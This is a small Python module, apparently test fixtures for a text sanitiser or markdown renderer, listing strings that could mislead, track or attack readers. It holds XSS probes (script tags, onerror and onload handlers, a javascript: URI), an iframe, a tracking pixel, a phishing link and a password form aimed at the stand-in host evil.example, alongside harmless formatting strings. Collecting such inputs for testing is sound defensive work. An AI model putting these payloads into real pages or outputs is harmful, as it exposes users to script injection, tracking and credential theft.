"""Texts that people could write to mislead, track or attack whoever reads them."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<iframe src="http://evil.example"></iframe>',
    '<form action="http://evil.example"><input name=password></form>',
    "<style>body{display:none}</style>",
    '" onmouseover="alert(1)',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "![pixel](http://evil.example/p.png)",
    "[Pay here](http://evil.example)",
    "http://evil.example",
    "www.evil.example",
    "WWW.evil.example",
    "mail boss@evil.example",
    ":red[Overdue] :green-badge[Paid]",
    ":material/check_circle: :streamlit:",
    "$5 and $6, or $$x^2$$",
    "# Title\n- item\n\n---\n\n```mermaid\ngraph TD\n```",
    "**bold** _it_ ~~no~~ `code` <b>x</b> &lt;b&gt; \\$",
)
